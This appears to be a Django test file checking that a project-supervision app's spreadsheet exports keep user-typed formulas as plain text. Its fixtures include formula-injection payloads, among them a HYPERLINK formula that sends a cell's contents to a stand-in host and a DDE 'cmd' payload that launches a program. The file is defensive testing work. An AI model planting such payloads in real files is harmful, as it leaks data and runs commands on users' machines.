"""No spreadsheet the app writes runs what a user typed: every cell from user text that starts
with =, +, - or @ comes back from the file as a plain string, exactly as typed, in the dashboard
export and in every sheet of the bulletin's .xlsx."""

import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from projects.models import Highlight, Project
from supervision import bulletins, criticism
from tests import factories

from .conftest import make_notice

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&B5,"点击查看")'
TYPED = {
    "name": "=1+1",
    "owner": "+86 0591 2888",
    "problems": HYPERLINK,
    "next_steps": "-2 天内完成",
    "needs_coordination": "@SUM(A1:A9)",
    "work_done": "=cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile(campaign, leader, supervisor):
    leader.profile.full_name = "=2*3"
    leader.profile.save(update_fields=["full_name"])
    project = factories.ProjectFactory(campaign=campaign, leader=leader, code="HN-09",
                                       name=TYPED["name"], owner=TYPED["owner"],
                                       health=Project.Health.RED)
    factories.ProgressReportFactory(
        project=project, problems=TYPED["problems"], next_steps=TYPED["next_steps"],
        needs_coordination=TYPED["needs_coordination"], work_done=TYPED["work_done"],
        reported_at=timezone.now() - datetime.timedelta(hours=2))
    notice = make_notice(project, supervisor, "issued")
    notice.reason = HYPERLINK
    notice.save(update_fields=["reason"])
    criticism.confirm_criticism(criticism.draft_criticism(project, person=leader, reason="=1/0"),
                                supervisor)
    Highlight.objects.create(campaign=campaign, project=project, kind=Highlight.Kind.PRACTICE,
                             title="+赶工", body="@全体 夜间施工", person_name="-张三",
                             created_by=supervisor)
    today = timezone.localdate()
    return bulletins.generate_bulletin(campaign, today - datetime.timedelta(days=6), today)


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _assert_no_formula_and_text_kept(cells, expected):
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for value in expected:
        assert any(value in text for text in texts), value
    for cell in cells:
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


def test_the_bulletin_xlsx_keeps_typed_formulas_as_text(client, hostile, supervisor):
    client.force_login(supervisor)
    response = client.get(reverse("bulletin_xlsx", args=[hostile.pk]))
    cells = _cells(response.content)
    _assert_no_formula_and_text_kept(cells, [
        "HN-09 =1+1", TYPED["owner"], TYPED["problems"], TYPED["next_steps"], "=2*3", HYPERLINK,
        "=1/0", "+赶工", "@全体 夜间施工", "-张三"])
    # Some cells did start with a formula sign: the test is not vacuous.
    assert sum(1 for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@") >= 8


def test_the_dashboard_export_keeps_typed_formulas_as_text(client, hostile, leader):
    client.force_login(leader)
    response = client.get(reverse("dashboard_export"))
    cells = _cells(response.content)
    _assert_no_formula_and_text_kept(cells, [TYPED["name"], TYPED["owner"], TYPED["problems"],
                                             TYPED["next_steps"], "=2*3"])
    starts = [c.value for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {TYPED["name"], TYPED["owner"], TYPED["problems"], "=2*3"} <= set(starts)
